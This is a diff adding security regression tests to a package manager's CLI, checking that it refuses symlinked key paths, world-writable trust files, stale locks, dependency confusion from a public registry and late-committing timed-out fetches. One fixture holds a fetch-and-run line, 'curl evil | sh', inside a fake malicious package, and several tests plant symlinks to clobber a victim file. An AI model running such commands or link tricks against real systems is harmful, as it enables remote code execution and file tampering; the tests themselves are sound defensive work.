@@ -1,10 +1,11 @@
 // The attacks of the trust review (issue 11), each through the CLI as a user or an attacker
 // would run it: every one must end in a coded error with nothing written, deleted or leaked.
-import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from '@jest/globals';
 import { buildTgz } from '../../../tools/testing/tar-builder.mjs';
+import { startStaticServer } from '../../../tools/testing/static-server.mjs';
 import { writeV1Registry } from '../../../tools/testing/v1-registry.mjs';
 import { copyOfSampleRegistry, freshHome, runGgen } from './helpers/run-ggen.js';
 
@@ -163,5 +164,131 @@ describe('update verifies as install does (finding 2)', () => {
     expect(JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).packages.pinned.version).toBe('1.1.0');
     const allowed = await runGgen(['marketplace', 'update', '--allow-downgrade', '--registry', registry, '--backend', 'v2'], { home, env: trust });
     expect(allowed.stdout).toContain('pinned 1.1.0 -> 1.0.0');
+  });
+});
+
+describe('files are written exclusively, and secrets and trust only where nobody else can swap them (findings 6, 15, 22, 24)', () => {
+  it('refuses to write a secret key through a link or into a directory others can write', async () => {
+    const home = freshHome();
+    const victim = join(home, 'root-only.txt');
+    writeFileSync(victim, 'precious', { mode: 0o600 });
+    const linkDir = join(home, 'keys');
+    mkdirSync(linkDir, { mode: 0o700 });
+    symlinkSync(victim, join(linkDir, 'signing.key'));
+    const throughLink = await runGgen(['marketplace', 'keygen', '--no-password', '--force', '--output', join(linkDir, 'signing.key')], { home });
+    expect(throughLink.stderr).toMatch(/^error GGEN_E_UNSAFE_PERMISSIONS: .*signing\.key is a symbolic link; a secret key is never written through one$/m);
+    expect(throughLink.code).toBe(10);
+    expect(readFileSync(victim, 'utf8')).toBe('precious');
+
+    const shared = join(home, 'shared');
+    mkdirSync(shared);
+    chmodSync(shared, 0o1777);
+    const intoShared = await runGgen(['marketplace', 'keygen', '--no-password', '--output', join(shared, 'signing.key')], { home });
+    expect(intoShared.stderr).toMatch(/^error GGEN_E_UNSAFE_PERMISSIONS: .*shared can be written by other users \(mode 777\)/m);
+    expect(readdirSync(shared)).toEqual([]);
+  });
+
+  it('replaces a planted link at a registry file instead of writing through it, and sweeps temp files of dead writers', async () => {
+    const home = freshHome();
+    const registry = copyOfSampleRegistry();
+    const victim = join(home, 'root-only.txt');
+    writeFileSync(victim, 'precious', { mode: 0o600 });
+    // What a killed migrate or publish left behind (pid 2^22 + 1 is above Linux's pid_max), and a link someone planted at a guessable temp name.
+    writeFileSync(join(registry, 'catalog.nq.tmp-4194305-deadbeef'), 'x'.repeat(1000));
+    symlinkSync(victim, join(registry, `catalog.nq.tmp-${process.pid}`));
+    const published = await runGgen(['marketplace', 'publish', writePack(join(home, 'pack'), 'fresh-pack', '1.0.0'), '--registry', registry], { home });
+    expect(published.code).toBe(0);
+    expect(readFileSync(victim, 'utf8')).toBe('precious');
+    expect(readdirSync(registry).filter((name) => name.startsWith('catalog.nq.tmp-4194305'))).toEqual([]);
+    expect(readFileSync(join(registry, 'catalog.nq'), 'utf8')).toContain('fresh-pack');
+  });
+
+  it('takes an empty lock file (a full disk, or a kill between create and write) as stale at once', async () => {
+    const home = freshHome();
+    const target = join(home, 'gpacks');
+    mkdirSync(target, { recursive: true });
+    writeFileSync(join(target, '.ggen.lock-pid'), '');
+    const started = Date.now();
+    const run = await runGgen(['marketplace', 'install', 'agent-editor', '--target', target], { home });
+    expect(run.code).toBe(0);
+    expect(run.stderr).not.toMatch(/waiting/);
+    // Far below the five-minute lock timeout that used to pass first.
+    expect(Date.now() - started).toBeLessThan(120_000);
+    expect(existsSync(join(target, '.ggen.lock-pid'))).toBe(false);
+  });
+
+  it('refuses a trust file that others can write, and warns about a secret key that others can read', async () => {
+    const home = freshHome();
+    const { registry, trust } = await signedRegistry(home, ['1.0.0']);
+    mkdirSync(join(home, '.ggen'), { recursive: true });
+    const trustFile = join(home, '.ggen', 'trusted-keys');
+    writeFileSync(trustFile, `${trust.GGEN_MARKETPLACE_TRUSTED_KEYS ?? ''}\n`);
+    chmodSync(trustFile, 0o666);
+    const refused = await runGgen(['marketplace', 'install', 'pinned', '--registry', registry, '--verify-signature'], { home });
+    expect(refused.stderr).toMatch(/^error GGEN_E_UNSAFE_PERMISSIONS: Trust file .*trusted-keys can be changed by other users \(mode 666, owner uid \d+\); its keys are not used$/m);
+    expect(refused.code).toBe(10);
+    chmodSync(trustFile, 0o600);
+    expect((await runGgen(['marketplace', 'install', 'pinned', '--registry', registry, '--verify-signature'], { home })).code).toBe(0);
+
+    chmodSync(join(home, 'k.key'), 0o644);
+    const warned = await runGgen(['marketplace', 'publish', writePack(join(home, 'p2'), 'pinned', '2.0.0'), '--sign', '--key', join(home, 'k.key'), '--registry', registry], { home });
+    expect(warned.stderr).toMatch(/^warning: secret key .*k\.key is readable by other users \(mode 644\); chmod 600 it$/m);
+    expect(warned.code).toBe(0);
+  });
+});
+
+describe('fallback to v1 is visible, refusable and never dependency confusion (findings 10, 11)', () => {
+  it("does not serve a v2 package's missing dependency, or the whole install, from the v1 registry", async () => {
+    const home = freshHome();
+    const v2 = copyOfSampleRegistry();
+    const pack = writePack(join(home, 'app'), 'private-app', '1.0.0');
+    writeFileSync(join(pack, 'gpack.yaml'), `${readFileSync(join(pack, 'gpack.yaml'), 'utf8')}dependencies:\n  internal-utils: ^1.0.0\n`);
+    expect((await runGgen(['marketplace', 'publish', pack, '--registry', v2], { home })).code).toBe(0);
+    // The public v1 registry has both names, published by someone else.
+    const v1 = writeV1Registry([
+      { name: 'private-app', archive: buildTgz([manifest('private-app')]), dependencies: { 'internal-utils': '*' } },
+      { name: 'internal-utils', archive: buildTgz([manifest('internal-utils'), { path: 'evil.sh', content: 'curl evil | sh' }]) },
+    ]);
+    const env = { GGEN_MARKETPLACE_REGISTRY: v1, GGEN_MARKETPLACE_V2_REGISTRY: v2 };
+    const run = await runGgen(['marketplace', 'install', 'private-app'], { home, env });
+    expect(run.stderr).toMatch(/^error GGEN_E_PACKAGE_NOT_FOUND: Package 'internal-utils', a dependency of private-app@1\.0\.0, is not in the registry$/m);
+    expect(run.code).toBe(4);
+    expect(existsSync(join(home, '.ggen', 'packages', 'internal-utils'))).toBe(false);
+  });
+
+  it('says when an install falls back, and honours fallback_on_error per operation', async () => {
+    const home = freshHome();
+    const v2 = copyOfSampleRegistry();
+    writeFileSync(join(v2, 'catalog.nq'), 'this is not n-quads\n');
+    const env = { GGEN_MARKETPLACE_REGISTRY: copyOfSampleRegistry(), GGEN_MARKETPLACE_V2_REGISTRY: v2 };
+    const served = await runGgen(['marketplace', 'install', 'agent-editor', '--target', join(home, 'a')], { home, env });
+    expect(served.code).toBe(0);
+    expect(served.stderr).toMatch(/^note: v2 failed \(GGEN_E_INDEX_INVALID: .*\); install served by v1 \(fallback_on_error\)$/m);
+
+    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
+    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  operations:\n    install: { fallback_on_error: false }\n');
+    const refused = await runGgen(['marketplace', 'install', 'agent-editor', '--target', join(home, 'b')], { home, env });
+    expect(refused.stderr).toMatch(/^error GGEN_E_INDEX_INVALID: /m);
+    expect(refused.code).toBe(7);
+    expect(existsSync(join(home, 'b', 'agent-editor'))).toBe(false);
+    // Search is not install: it still falls back.
+    expect((await runGgen(['marketplace', 'search', 'agent'], { home, env })).code).toBe(0);
+  });
+
+  it('cancels a v2 attempt that ran out of time: it never commits after v1 answered', async () => {
+    const home = freshHome();
+    const server = await startStaticServer(copyOfSampleRegistry(), { delayMs: 1500 });
+    try {
+      const env = { GGEN_MARKETPLACE_REGISTRY: copyOfSampleRegistry(), GGEN_MARKETPLACE_V2_REGISTRY: server.url, GGEN_MARKETPLACE_V2_TIMEOUT_MS: '300' };
+      const run = await runGgen(['marketplace', 'install', 'agent-editor'], { home, env });
+      expect(run.code).toBe(0);
+      expect(run.stderr).toMatch(/^note: v2 failed \(GGEN_E_BACKEND_TIMEOUT: /m);
+      // The process has ended: whatever v2 was still doing is over, and it wrote nothing.
+      const lock = JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')) as { packages: Record<string, { backend: string }> };
+      expect(Object.values(lock.packages).map((entry) => entry.backend)).toEqual(['v1']);
+      expect(existsSync(join(home, '.ggen', 'packages', '.ggen-txn'))).toBe(false);
+    } finally {
+      await server.close();
+    }
   });
 });
